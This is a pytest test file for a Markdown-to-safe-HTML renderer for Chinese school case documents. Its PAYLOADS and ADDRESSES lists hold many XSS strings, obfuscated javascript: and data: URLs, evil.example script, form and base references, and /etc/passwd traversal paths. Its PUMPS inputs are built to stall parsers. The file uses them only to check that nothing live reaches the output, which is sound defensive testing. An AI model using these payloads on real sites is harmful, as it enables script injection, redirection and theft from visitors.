"""Prose: submitted Markdown to safe HTML, with nothing that was written lost."""

import re
import time
from html.parser import HTMLParser

import pytest

from casepress.markup import prose
from casepress.markup.prose import Reference, count_characters, references, render
from casepress.values.cases import Heading

TARGETS = {"b.md": "case:moe-3-02", "p.jpg": "asset:0123abcd.jpg", "校园.jpg": "asset:4567.jpg"}
ALLOWED = {
    "p": (), "br": (), "hr": (), "em": (), "strong": (), "code": (), "pre": (), "blockquote": (), "ul": (),
    "table": (), "thead": (), "tbody": (), "tr": (), "figure": (), "figcaption": (),
    "ol": ("start",), "li": ("id", "value"), "sup": ("id",), "sub": (), "del": (), "div": ("class",), "td": ("class", "colspan", "rowspan"), "th": ("class", "scope", "colspan", "rowspan"),
    "a": ("href", "title", "rel", "class"), "img": ("src", "alt", "title"),
    **{f"h{level}": ("id",) for level in range(1, 7)},
}  # fmt: skip
LIVE = re.compile(r"(https?://|mailto:|case:[a-z0-9-]+$|#x-)[^\s\x00-\x1f\\]*")


class Walk(HTMLParser):
    """Reads a fragment as a browser would, and objects to everything that may not be in one."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags, self.open, self.words, self.ids, self.addresses = [], [], [], [], []
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag, attrs):
        assert tag in ALLOWED, tag
        for name, value in attrs:
            assert name in ALLOWED[tag], (tag, name, value)
            if name == "href":
                assert LIVE.fullmatch(value), value
                self.addresses.append(value)
            if name == "src":
                assert re.fullmatch(r"asset:[0-9a-z.]+", value), value
            if name == "id":
                assert value.startswith("x-"), value
                self.ids.append(value)
        self.tags.append(tag)
        if tag not in ("br", "hr", "img"):
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.words.append(data)

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def html(markdown: str, targets=TARGETS) -> str:
    fragment = render(markdown, "x-", targets)
    assert prose._clean(fragment.html) == fragment.html
    return fragment.html


def words(markdown: str) -> str:
    return "".join(Walk(html(markdown)).words)


# --- hostile input

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<form action=//evil.example><input name=a></form>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=attachment href=file:///etc/passwd>",
    "<object data=file:///etc/passwd></object>",
    "<a href=javascript:alert(1)>a</a>",
    "<td colspan=100000>",
    "<div style=position:fixed>",
    "<b id=__md_scope>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?php echo 1 ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html>",
    "text <br/> <u>u</u> &lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|---|---|\n| <svg onload=alert(1)> | b |",
    "## <img src=x onerror=alert(1)>",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    '[^"><script>]\n\n[^"><script>]: note',
    "[a](http://a.cn){: onclick=alert(1)}",
    "# h {: onmouseover=alert(1) #__md_scope}",
    "*[HTML]: <script>alert(1)</script>",
    '--8<-- "/etc/passwd"',
    "{{7*7}} {% include '/etc/passwd' %}",
    '![<script>alert(1)</script>](p.jpg "<script>alert(1)</script>")',
    '![a" onerror="alert(1)](p.jpg "b\' onload=\'alert(1)")',
    '[a](http://a.cn "x\\" onmouseover=\\"alert(1)")',
    '[a](http://a.cn/"onmouseover="alert(1))',
    "[a](<http://a.cn/><script>alert(1)</script>)",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x02amp\x03lt;script>",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&#58;alert(1)",
    "java&#9;script:alert(1)",
    "java&#10;script:alert(1)",
    "&#1;javascript:alert(1)",
    "java\x01script:alert(1)",
    "java\tscript:alert(1)",
    "\u3000javascript:alert(1)",
    "java\u200bscript:alert(1)",
    "java\\script:alert(1)",
    "javascript&amp;colon;alert(1)",
    "javascript://%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "file:///etc/passwd",
    "//evil.example",
    "/\\evil.example",
    "\\\\evil\\share",
    "\\evil\\share",
    "http:/evil.example",
    "http:evil.example",
    "http:\\\\evil.example",
    "https://good.cn\\@evil.example",
    "https://good.cn@evil.example/",
    "/etc/passwd",
    "../../etc/passwd",
    "%2e%2e/%2e%2e/etc/passwd",
    "C:\\x",
    "c.md",
    "case:moe-3-02",
    "CASE:moe-3-02",
    "case&colon;moe-3-02",
    "asset:0123abcd.jpg",
    "ca&#1;se:moe-3-02",
    "blob:x",
    "about:blank",
    "tel:110",
    "ftp://evil.example",
    "#nowhere",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_html_in_the_source_shows_as_text(payload):
    """No tag, attribute, address or comment that a school writes comes alive, and its letters stay readable."""
    for markdown in (payload, f"前 {payload} 后", f"- {payload}", f"> {payload}", f"**{payload}**"):
        walk = Walk(html(markdown))
        assert walk.addresses in ([], ["http://a.cn"]) or all(a.startswith(("#x-", "http://a.cn")) for a in walk.addresses)
    if "alert" in payload and "](<" not in payload:
        assert "alert" in html(payload)


@pytest.mark.parametrize("form", ["[甲]({})", "[甲](<{}>)", "[甲][r] \n\n[r]: {}", '[甲]({} "题")', "**[甲]({})**", "- [甲]({})"])
@pytest.mark.parametrize("address", ADDRESSES)
def test_an_address_that_is_not_plainly_good_becomes_words(form, address):
    """Only http, https, mailto and what the collection knows is a link; of all else the words remain."""
    walk = Walk(html(form.format(address)))
    assert walk.addresses == [] and "甲" in "".join(walk.words)


@pytest.mark.parametrize("address", [*ADDRESSES, "http://a.cn/x.jpg", "https://a.cn/x.svg", "mailto:a@b.cn", "q.jpg"])
def test_a_picture_comes_from_the_collection_or_becomes_its_words(address):
    """No page asks another host for a picture; a picture that is not there leaves its words, and its caption."""
    text = words(f'前![操场]({address} "大课间")后')
    assert "img" not in Walk(html(f"![操场]({address})")).tags
    assert text.startswith("前") and "〔图片：操场〕大课间" in text or "操场" in text


@pytest.mark.parametrize("address", ["<javascript://x>", "<file:///etc/passwd>", "<case://moe-3-02>", "<asset://x>"])
def test_an_automatic_link_obeys_the_same_rules(address):
    """`<scheme://…>` is a link for http and https only."""
    assert Walk(html(address)).addresses == [] and words(address) == address[1:-1]


def test_apostrophes_of_latin_words_are_narrow():
    """The ’ of a Latin word is the plain one, for Chinese faces draw it an em wide; quotation marks, code and addresses stay."""
    assert words("“Don’t”，‘好’，A ‘b’，*L’été*") == "“Don't”，‘好’，A ‘b’，L'été"
    assert html("`a’b` [x’y](https://e.org/a’b)") == '<p><code>a’b</code> <a href="https://e.org/a’b" rel="noopener">x\'y</a></p>'


def test_the_last_layer_would_do_alone():
    """Whatever reaches nh3, even raw HTML, leaves it without anything alive."""
    raw = PAYLOADS + [f'<a href="{address}">a</a><img src="{address}">' for address in ADDRESSES]
    raw = [text for text in raw if not re.search(r'"((case|asset):[a-z0-9.-]+|#nowhere)"', text)]
    raw += ["<td colspan=9 rowspan=9 style=x>", '<h2 id="a b">', "<ol start=99999999>", '<p class="md-header">']
    for text in raw:
        clean = prose._clean(text)
        for address in re.findall(r'(?:href|src)="([^"]*)"', clean):
            assert LIVE.match(address), (text, clean)
        assert not re.search(r"<[^>]*\s(on\w+|style|colspan|rowspan|srcdoc|action)=", clean), clean
        assert not re.search(r"<(script|style|svg|math|iframe|object|base|meta|form|link|noscript)", clean, re.I), clean
    assert prose._clean('<h2 id="a b">x</h2><ol start=99999999></ol>') == "<h2>x</h2><ol></ol>"


# --- bounded time


def filled(unit: str, size: int = 512 * 1024) -> str:
    return (unit * (size // len(unit) + 1))[:size]


PUMPS = {
    "brackets": filled("["),
    "pictures": filled("!["),
    "declarations": filled("<!["),
    "tags": filled("<a "),
    "open links": filled("[a]("),
    "links": filled("[a](b) "),
    "ticks": filled("".join("a" + "`" * n for n in range(1, 200))),
    "stars": filled("*a **b "),
    "lines": filled("*a*\n"),
    "escapes": filled("\\*"),
    "headings": filled("# a\n"),
    "long headings": filled("# " + "a" * 30 + "\n"),
    "rules": filled("***\n"),
    "quotes at once": filled("> "),
    "lists at once": filled("- "),
    "list of 300 levels": "\n".join("    " * n + "- a" for n in range(300)),
    "loose list of 300 levels": "\n\n".join("    " * n + "- a" for n in range(300)),
    "paragraphs": filled("a\n\n"),
    "empty lines": filled("\n"),
    "tabs": filled("\t"),
    "pipes": "|" * 5000 + "\n" + "-|" * 4999 + "-\n" + "|\n" * 10000,
    "wide table": "|" * 4000 + "\n" + "-|" * 3999 + "-\n" + "|\n" * 1500,
    "table": "|a|b|\n|-|-|\n" + filled("|a|b|\n"),
    "definitions": filled("[a]: b\n"),
    "quoted definitions": filled("> [a]: " + '"' * 5000 + "x [a]\n\n"),
    "notes": filled("[^a]"),
    "one note": "[^a]: b\n\n" + "[^a]\n\n" * 9_900,
    "many notes": "\n\n".join(f"[^{n}]: a[^{n + 1}]" for n in range(990)),
    "abbreviations": filled("*[a]: b\n"),
    "bracketed paragraphs": filled("[" * 60 + "\n\n"),
    "nested emphasis": "*a **b " * 400 + "** *" * 400,
}


@pytest.mark.parametrize("text", PUMPS.values(), ids=PUMPS.keys())
def test_no_text_takes_long(text):
    """Half a megabyte of anything is answered in seconds, and shown as it stands where it is too tangled."""
    start = time.process_time()
    shown = Walk(html(text)).words
    assert time.process_time() - start < 60  # quadratic reading would take many minutes
    if render(text, "x-", {}).unread == (1,):
        assert "".join("".join(shown).split()).startswith("".join(text[:50].split()))


def test_only_the_tangled_block_is_shown_as_it_stands():
    """A block with too many levels becomes preformatted text, and is reported with its line; the others are read."""
    deep = "- " * 30 + "深 <b> &lt;"
    markdown = f"**一**\n\n{deep}\n\n**二**"
    assert html(markdown) == (
        f"<p><strong>一</strong></p>\n<pre><code>{deep.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;')}"
        "\n</code></pre>\n<p><strong>二</strong></p>"
    )
    assert render(markdown, "x-", {}).unread == (3,)
    assert render("**一**\n\n" + "[" * 5000, "x-", {}).unread == (3,)


def test_a_usual_case_is_not_tangled():
    """A long case with many links, a large table, a long list and two hundred notes is read as Markdown."""
    markdown = "\n\n".join(
        [
            "一段话，其中有[链接](http://a.cn)与**强调**，还有“引文”。" * 40,
            "\n".join(f"- **第{n}条** 内容见[附件](http://a.cn/{n})" for n in range(200)),
            "| 年级 | 时长 |\n|---|---|\n" + "\n".join(f"| **{n}** | [表](http://a.cn) |" for n in range(200)),
            *(f"一句[^{n}]，又一句。" for n in range(200)),
            "\n".join(f"[^{n}]: 第 {n} 条注。" for n in range(200)),
        ]
    )
    assert render(markdown, "x-", {}).unread == ()


def test_a_reader_can_be_used_again():
    """Texts rendered with one reader come out as with a fresh one, also after a text that it could not read."""
    md = prose.renderer()
    texts = ["[^1]\n\n[^1]: 注\n\n[a][r] [r]\n\n[r]: http://a.cn", "- " * 4000, "[^1] [r]", "[" * 9000, "## 一\n\n*二*"]
    for text in texts * 2:
        assert render(text, "x-", TARGETS, md) == render(text, "x-", TARGETS)
        assert references(text, md) == references(text)


# --- nothing is lost


@pytest.mark.parametrize(
    "markdown",
    [
        "[注]: 数据截至期末",
        "[注]: http://a.cn",
        "[^1]: 无人提到的注",
        "正文[^9]没有这条注",
        "[^1]\n\n[^1]: 甲\n\n[^1]: 乙",
        "[^1]:\n\n[^1]",
        "[甲](乙'丙(丁 戊己庚",
        "*甲**乙*丙",
        "**甲*乙**丙*",
        "| 甲 | 乙 |\n|---|---|\n| 一 | 二 | 三 | 四 |",
        "| 甲 |\n|---|\n| 一 | 二 |",
        "[甲](javascript:x \"乙\")",
        "[](乙.md)",
        "![甲](b.jpg \"丙\")",
        "[甲](c.md)[乙][丙]",
        "///Footnotes Go Here///\n\n[^1]\n\n[^1]: 甲",
        "<b>甲</b>&乙;&#21313;&nbsp;",
        "甲\n- 乙\n- 丙",
        "　　甲\n　　乙\n丙",
        "[^甲\n[^1]: 乙",
        "5*3*2*4，甲*乙",
    ],
)  # fmt: skip
def test_every_written_character_is_shown(markdown):
    """Chinese characters and figures of the source are all in what a reader sees, whatever the markup makes of them."""
    seen = words(markdown)
    for char in set(re.findall("[一-龥]", markdown)):
        assert seen.count(char) >= markdown.count(char) - (char == "丙" and "[丙]" in markdown), (char, seen)


def test_an_unfit_character_does_not_come_in_as_an_entity():
    """Control characters and turns of direction are gone, however they are written."""
    assert html("甲&#1;\x01乙&#x202E;\u202e丙&#0;") == "<p>甲乙丙\ufffd</p>"


def test_an_odd_note_spoils_nothing_else():
    """A note without words, or a placeholder of Python-Markdown's own, is text among read Markdown."""
    assert html("[^1]:\n\n**甲**") == "<p>[^1]:</p>\n<p><strong>甲</strong></p>"
    assert "///Footnotes Go Here///" in html("///Footnotes Go Here///\n\n甲[^1]\n\n[^1]: 注")


def test_multiplication_is_not_emphasis():
    """A star between figures or Latin letters is a star."""
    assert html("面积3*4*5米，10cm*20cm*30cm") == "<p>面积3*4*5米，10cm*20cm*30cm</p>"


# --- what Markdown becomes


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("**“双减”**工作", "<strong>“双减”</strong>工作"),
        ("推进**“双减”**。", "推进<strong>“双减”</strong>。"),
        ("**重点：**内容", "<strong>重点：</strong>内容"),
        ("*强调*，***都要***", "<em>强调</em>，<strong><em>都要</em></strong>"),
        ("*一 **二** 三*", "<em>一 <strong>二</strong> 三</em>"),
        ("2 * 3 与 snake_case_x", "2 * 3 与 snake_case_x"),
        ("中_文_字 __强__ _弱_", "中_文_字 <strong>强</strong> <em>弱</em>"),
        ("`a < b` \\*c\\*", "<code>a &lt; b</code> *c*"),
        ("&amp; &lt; &copy; &无", "&amp; &lt; © &amp;无"),
    ],
)
def test_emphasis_works_beside_chinese(markdown, expected):
    """Emphasis needs no spaces about it and may end in a full-width mark."""
    assert html(markdown) == f"<p>{expected}</p>"


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("学校\n家庭", "学校家庭"),
        ("学校，\n家庭", "学校，家庭"),
        ("学校，\n2024年", "学校，2024年"),
        ("“学校”\n“家庭”", "“学校”“家庭”"),
        ("学校   \u3000\n  家庭", "学校家庭"),
        ("学校\nand\nfamily", "学校 and family"),
        ("**学校**\n家庭", "<strong>学校</strong>家庭"),
        ("学校\n*家庭*\n社会", "学校<em>家庭</em>社会"),
        ("学校[链\n接](http://a.cn)\n家庭", '学校<a href="http://a.cn" rel="noopener">链接</a>家庭'),
        ("学校  \n家庭", "学校<br>家庭"),
        ("𠮷\n葛\U000e0100\n城", "𠮷葛\U000e0100城"),
    ],
)
def test_a_line_end_between_chinese_characters_is_no_space(markdown, expected):
    """Broken lines close up in Chinese, across markup too, and stay apart in Latin."""
    assert html(markdown) == f"<p>{expected}</p>"


def test_code_keeps_its_lines():
    """Only prose closes up."""
    assert html("```\n学校\n家庭\n```") == "<pre><code>学校\n家庭\n</code></pre>"
    assert html("    a = {\n    }") == "<pre><code>a = {\n}\n</code></pre>"
    assert html("`学校\n家庭`") == "<p><code>学校\n家庭</code></p>"


def test_headings_are_numbered_under_the_prefix():
    """Levels stay as written; ids are h1, h2 … after the prefix; empty headings vanish."""
    fragment = render("## 背景 **一**\n\n### 做法[^1]\n\n##\n\n成效\n---\n\n[^1]: 注", "moe-3-01-", {})
    assert fragment.headings == (
        Heading(2, "背景 一", "moe-3-01-h1", 1),
        Heading(3, "做法", "moe-3-01-h2", 3),
        Heading(2, "成效", "moe-3-01-h3", 7),
    )
    assert re.findall('<h(.) id="([^"]+)"', fragment.html) == [
        ("2", "moe-3-01-h1"),
        ("3", "moe-3-01-h2"),
        ("2", "moe-3-01-h3"),
    ]


def test_links_go_where_the_collection_says():
    """Known targets become what they stand for, web addresses stay and part with their opener."""
    assert html('[甲](b.md "题")') == '<p><a href="case:moe-3-02" title="题">甲</a></p>'
    assert html("[甲](HTTPS://a.cn/路?a=1&b=2#c)") == ('<p><a href="HTTPS://a.cn/路?a=1&amp;b=2#c" rel="noopener">甲</a></p>')
    assert html("<a@b.cn>") == '<p><a href="mailto:a@b.cn">a@b.cn</a></p>'
    assert html("[甲][r]，[r]\n\n[r]: b.md") == '<p><a href="case:moe-3-02">甲</a>，<a href="case:moe-3-02">r</a></p>'
    assert html("[](b.md)") == '<p><a href="case:moe-3-02">b.md</a></p>'


def test_links_within_a_case_lead_to_its_headings():
    """`#heading` and `#h1` are found under the prefix."""
    assert Walk(html("## 主要 做法\n\n见[上](#主要 做法)、[上](#h1)")).addresses == ["#x-h1", "#x-h1"]


def test_a_picture_alone_is_a_figure():
    """A picture alone in its paragraph is a figure, with its title for a caption; several make several."""
    assert html("![操场](p.jpg)") == '<figure><img src="asset:0123abcd.jpg" alt="操场"></figure>'
    assert html('![操场](p.jpg "大课间")\n![校园](校园.jpg)') == (
        '<figure><img src="asset:0123abcd.jpg" alt="操场"><figcaption>大课间</figcaption></figure>\n'
        '<figure><img src="asset:4567.jpg" alt="校园"></figure>'
    )
    assert html("图：![操场](p.jpg)") == '<p>图：<img src="asset:0123abcd.jpg" alt="操场"></p>'


def test_a_linked_picture_stands_before_its_link():
    """No link consists of a picture (PDF/UA-1, 7.18.5); its alternative text becomes the link's words."""
    assert html("[![操场](p.jpg)](b.md)") == ('<p><img src="asset:0123abcd.jpg" alt="操场"><a href="case:moe-3-02">操场</a></p>')


def test_table_heads_have_a_scope_and_columns_their_alignment():
    """`th` says that it heads a column; an empty corner is no head; alignment is a class."""
    assert html("|  | 时长 |\n|---|--:|\n| 一年级 | 40 |") == (
        '<table><thead><tr><td></td><th class="align-right" scope="col">时长</th></tr>\n</thead>\n'
        '<tbody><tr><td>一年级</td><td class="align-right">40</td></tr>\n</tbody>\n</table>'
    )


def test_a_list_needs_no_empty_line_before_it():
    """A list that follows a text at once is a list, as in other readers; a figure in mid-sentence is not."""
    assert Walk(html("做法如下：\n- 一\n- 二")).tags == ["p", "ul", "li", "li"]
    assert Walk(html("做法如下：\n1. 一\n2. 二")).tags == ["p", "ol", "li", "li"]
    assert Walk(html("完成于\n2021. 此后\n3. 又")).tags == ["p"]
    assert Walk(html("- 一\n接着一\n- 二")).tags == ["ul", "li", "li"]


def test_two_ideographic_spaces_begin_a_paragraph():
    """Text typed the Chinese way, one indented line after the other, is set as paragraphs."""
    assert html("　　第一段。\n　　第二段\n接着。") == "<p>第一段。</p>\n<p>第二段接着。</p>"


def test_lists_keep_their_first_number_and_their_kind():
    """A list beginning with 3 begins with 3; bullets after numbers are another list."""
    assert html("3. 三\n4. 四") == '<ol start="3"><li>三</li>\n<li>四</li>\n</ol>'
    assert Walk(html("1. 一\n\n- 二")).tags == ["ol", "li", "ul", "li"]


def test_footnotes_are_numbered_in_the_order_of_the_text():
    """Notes are counted as they are first mentioned, whatever their names, and lead back to each mention."""
    fragment = render("甲[^z]乙[^a]丙[^z]\n\n[^a]: 注甲\n[^z]: 注乙\n[^q]: 没人提", "x-", {})
    walk = Walk(fragment.html)
    assert walk.ids == ["x-ref1", "x-ref2", "x-ref3", "x-note1", "x-note2", "x-note3"]
    assert walk.addresses == ["#x-note1", "#x-note2", "#x-note1", "#x-ref1", "#x-ref3", "#x-ref2"]
    assert fragment.text == "甲乙丙\n注乙\n注甲\n没人提" and "回到正文中的注 1" in fragment.html


def test_two_fragments_share_a_page():
    """No id of one fragment is an id of another, and every inner link leads to an id of its own fragment."""
    markdown = "## 一\n\n[上](#一)[^1][^1]\n\n[^1]: 注"
    pages = [render(markdown, prefix, {}).html for prefix in ("a-", "b-")]
    ids = [re.findall(r'id="([^"]+)"', page) for page in pages]
    assert len(set(ids[0] + ids[1])) == 8
    for page, own in zip(pages, ids, strict=True):
        assert set(re.findall(r'href="#([^"]+)"', page)) <= set(own)


def test_the_plain_text_has_a_line_for_every_block():
    """For search and for counting: blocks end lines, cells are parted, marks of notes are left out."""
    markdown = "## 一\n\n甲**乙**\n丙[^1]\n\n- 丁\n    - 戊\n\n| 己 | 庚 |\n|---|---|\n| 辛 | 壬 |\n\n[^1]: 癸"
    assert render(markdown, "x-", {}).text == "一\n甲乙丙\n丁\n戊\n己 庚\n辛 壬\n癸"


def test_an_empty_text_is_an_empty_fragment():
    """Nothing comes of nothing."""
    for text in ("", "\n\n", " 　\n"):
        assert render(text, "x-", {}) == prose.Fragment("", (), "")


# --- references


def test_references_know_their_lines():
    """Links and pictures of every form are found on their lines, wherever they stand."""
    markdown = "\n".join(
        [
            "[甲](1.md)与[乙](2.md)，",  # 1
            '![丙](3.jpg "题")',
            "",
            "## [丁](4.md)",
            "",
            "- **[戊](5.md)**",
            "    - （[己](6.md)）",
            "",
            "| [庚](7.md) | `[码](no.md)` |",
            "|---|---|",
            "| [![辛](8.jpg)](9.md) | <http://a.cn> |",  # 11
            "",
            "> [壬][r]，[r]，[r][]",
            "",
            '[r]: 10.md "题"',
            "",
            "    a(); [code](no.md)",
            "",
            "文[^1]\\[非](no.md)",
            "",
            "[^1]: 注 [癸](11.md)",  # 21
            "",
            "做法：",
            "- [子](12.md)",
            "　　[丑",
            "寅](<13 a.md>)",
            "（[卯](<http://b.cn/14>)）",
        ]
    )
    assert references(markdown) == (
        Reference("link", "1.md", "甲", 1),
        Reference("link", "2.md", "乙", 1),
        Reference("picture", "3.jpg", "丙", 2, "题"),
        Reference("link", "4.md", "丁", 4),
        Reference("link", "5.md", "戊", 6),
        Reference("link", "6.md", "己", 7),
        Reference("link", "7.md", "庚", 9),
        Reference("link", "9.md", "", 11),
        Reference("picture", "8.jpg", "辛", 11),
        Reference("link", "http://a.cn", "http://a.cn", 11),
        Reference("link", "10.md", "壬", 13, "题"),
        Reference("link", "10.md", "r", 13, "题"),
        Reference("link", "10.md", "r", 13, "题"),
        Reference("link", "11.md", "癸", 21),
        Reference("link", "12.md", "子", 24),
        Reference("link", "13 a.md", "丑 寅", 25),
        Reference("link", "http://b.cn/14", "卯", 27),
    )


def test_references_are_what_render_asks_for():
    """A target is looked up exactly as `references` gives it, entities and spaces included."""
    asked = []

    class Asked(dict):
        def get(self, target, default=None):
            asked.append(target)
            return default

    markdown = "[a](<x  y.md>) ![b]( z.jpg ) [c](p&amp;q.md) [d](%E6%A0%A1.md) [e](http://a.cn) ![f][r]\n\n[r]: w.jpg"
    render(markdown, "x-", Asked())
    assert sorted(asked) == sorted(reference.target for reference in references(markdown))


def test_a_text_without_links_has_no_references():
    """Brackets alone are no links."""
    assert references("【一】[二] <三> 1 < 2 [^1]") == ()


# --- counting


@pytest.mark.parametrize(
    ("text", "count"),
    [
        ("", 0),
        ("双减", 2),
        ("“双减”，", 5),
        ("2024年", 2),
        ("STEM课程", 3),
        ("hello world", 2),
        ("3.5%，", 2),
        ("——……", 4),
        ("一\n二　三 四", 4),
        ("葛\U000e0100城𠮷", 3),
        ("（一）", 3),
    ],
)
def test_characters_are_counted_as_word_processors_count(text, count):
    """Chinese characters and marks count one each, a run of anything else counts one."""
    assert count_characters(text) == count
